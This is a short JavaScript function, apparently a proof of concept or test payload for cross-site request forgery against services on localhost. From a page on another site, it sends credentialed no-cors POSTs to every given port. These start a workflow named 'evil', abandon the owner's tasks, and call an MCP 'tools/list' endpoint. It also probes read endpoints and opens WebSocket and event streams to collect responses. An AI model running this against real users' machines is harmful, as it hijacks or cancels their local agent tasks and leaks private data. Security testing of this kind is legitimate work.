// A page of another site: it sends to every port what a browser sends without asking the port first,
// with the cookies of who looks at the page, and returns what it could read.
async ([ports, start]) => {
  const got = [], pause = ms => new Promise(done => setTimeout(done, ms));
  const payloads = x => ({payloads: [{metadata: {encoding: btoa("json/plain")},
                                      data: btoa(JSON.stringify(x))}]});
  const task = "/api/v1/namespaces/default/workflows/";
  const writes = [
    [task + "evil", {workflowType: {name: "AgentTask"}, taskQueue: {name: "nobody"},
                     input: payloads(start)}],
    [task + "of-the-owner/signal/abandon", {input: payloads({by: "anna"})}],
    ["/api/v1/tasks", {input: "2"}], ["/api/v1/tasks/of-the-owner/abandon", {}],
    ["/login", {}], ["/mcp", {jsonrpc: "2.0", id: 1, method: "tools/list"}],
  ];
  const reads = ["/", "/ready", "/metrics", "/mcp", "/api/v1/me", "/api/v1/tasks", task];
  await Promise.all(ports.flatMap(port => ["127.0.0.1", "localhost"].map(async host => {
    const at = `http://${host}:${port}`, credentials = "include";
    for (const [path, said] of writes)
      for (const type of ["text/plain", "application/x-www-form-urlencoded"])
        await fetch(at + path, {method: "POST", mode: "no-cors", credentials,
          headers: {"Content-Type": type}, body: JSON.stringify(said)}).catch(() => 0);
    for (const path of reads)
      await fetch(at + path, {credentials}).then(read => got.push([at + path, read.status]), () => 0);
    const socket = new WebSocket(`${at.replace("http", "ws")}/_nicegui_ws/socket.io/?EIO=4&transport=websocket`);
    socket.onmessage = said => got.push([at, said.data]);
    const events = new EventSource(at + "/api/v1/tasks/of-the-owner/events", {withCredentials: true});
    events.onmessage = events.onopen = () => got.push([at, "events"]);
    await pause(500);
    socket.close(); events.close();
  })));
  return got;
}
